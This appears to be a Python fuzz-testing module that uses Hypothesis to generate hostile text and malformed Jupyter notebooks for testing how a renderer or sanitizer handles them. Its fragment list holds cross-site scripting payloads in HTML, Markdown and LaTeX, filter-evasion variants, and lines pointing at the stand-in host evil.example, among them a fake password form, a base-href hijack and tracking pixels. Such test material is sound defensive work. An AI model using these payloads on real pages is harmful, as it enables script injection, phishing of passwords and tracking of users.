"""Texts and notebooks that were written to break a page."""

from __future__ import annotations

import json
from typing import Any

from hypothesis import strategies as st

FRAGMENTS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form action=https://evil.example><input name=password><button>go</button></form>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example)</style>",
    "<p style='position:fixed;inset:0' id=top class=cell onclick=alert(1)>x</p>",
    "<img src=https://evil.example/pixel.png srcset='https://evil.example/2.png 2x'>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/logout' ping='https://evil.example' target=_top>x</a>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<td>a</td></div></div></section>",
    "[a](javascript:alert(1))",
    "[a](JaVaScRiPt&colon;alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "![a](https://evil.example/pixel.png)",
    '![a" onerror="alert(1)](x)',
    "[a](https://example.org 'x\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "[r]: javascript:alert(1)\n\n[r]",
    '```" onclick="alert(1)\n</code></pre><script>\n```\n',
    "| a | b |\n|:-|-:|\n| <script> | $x$ |\n",
    r"$\href{javascript:alert(1)}{x}$",
    r"$\style{position:fixed}{x}\class{cell}{y}$",
    r"$\text{<script>alert(1)</script>}$",
    r"$\unicode{x3c}script\unicode{x3e}$",
    r"$$\def\a{\b\b}\a$$",
    r"$\frac{",
    "$$",
    "$",
    "\n\n$$\nx\n",
    r"\begin{align}",
    "\x1b[31mred\x1b[0m",
    "\x1b]8;;javascript:alert(1)\x07link\x1b]8;;\x07",
    "\u202e\u2066",
    "\ud800",
    "\0\r\x85\u2028",
    "&lt;script&gt;&#60;",
    '"""',
    "f'{",
    "\n    ",
    "> > - 1. ",
]

texts = st.lists(
    st.sampled_from(FRAGMENTS) | st.text(st.characters(), max_size=20), max_size=12
).map("".join)
lines = texts | st.lists(texts, max_size=3)
anything: st.SearchStrategy[Any] = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | texts,
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(texts, inner, max_size=3),
    max_leaves=5,
)
KINDS = [
    "text/plain",
    "text/html",
    "text/latex",
    "text/markdown",
    "image/png",
    "image/svg+xml",
    "application/javascript",
]
bundles = st.dictionaries(st.sampled_from(KINDS), lines | anything, max_size=3)
outputs = st.fixed_dictionaries(
    {
        "output_type": st.sampled_from(["stream", "error", "display_data", "execute_result"])
        | anything,
    },
    optional={
        "data": bundles | anything,
        "text": lines | anything,
        "name": st.sampled_from(["stdout", "stderr"]) | anything,
        "traceback": st.lists(texts, max_size=2) | anything,
        "ename": texts | anything,
    },
)
cells = st.fixed_dictionaries(
    {"cell_type": st.sampled_from(["code", "markdown", "raw", "heading"]) | anything},
    optional={
        "source": lines | anything,
        "input": lines | anything,
        "outputs": st.lists(outputs, max_size=3) | anything,
        "execution_count": st.integers() | anything,
        "metadata": st.just({"tags": ["skip-grading"]}) | anything,
        "attachments": st.dictionaries(texts, bundles | anything, max_size=2) | anything,
    },
)
notebooks = st.fixed_dictionaries(
    {"nbformat": st.sampled_from([4, 4, 4, 3]) | anything},
    optional={
        "cells": st.lists(cells, max_size=4) | anything,
        "worksheets": st.lists(
            st.fixed_dictionaries({"cells": st.lists(cells, max_size=3)}), max_size=2
        ),
    },
).map(lambda value: json.dumps(value).encode())
